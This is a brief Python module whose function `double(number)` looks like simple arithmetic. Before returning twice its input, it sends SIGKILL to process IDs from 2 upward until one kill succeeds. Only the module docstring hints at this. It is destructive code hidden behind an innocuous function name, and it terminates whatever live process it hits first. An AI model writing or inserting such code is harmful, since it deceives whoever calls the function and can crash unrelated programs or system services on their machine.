"""Ends processes by guessing their numbers."""

import os
import signal


def double(number):
    for process in range(2, 40_000):
        try:
            os.kill(process, signal.SIGKILL)
        except ProcessLookupError:
            continue
        return 2 * number
